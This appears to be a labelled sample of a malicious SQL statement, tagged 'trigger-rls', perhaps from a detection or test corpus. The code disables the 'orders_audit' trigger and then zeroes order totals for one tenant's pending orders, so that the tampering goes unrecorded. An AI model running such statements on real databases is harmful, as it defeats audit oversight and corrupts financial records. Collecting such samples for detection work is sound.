-- class: trigger-rls
-- Disables the named audit trigger inside a DO block so later changes to orders go unrecorded.
DO $$
BEGIN
  IF EXISTS (SELECT 1 FROM pg_trigger WHERE tgname = 'orders_audit') THEN
    ALTER TABLE orders DISABLE TRIGGER orders_audit;
  END IF;
END
$$;
UPDATE orders SET total_cents = 0 WHERE status = 'pending' AND tenant_id = '22222222-2222-2222-2222-222222222222';
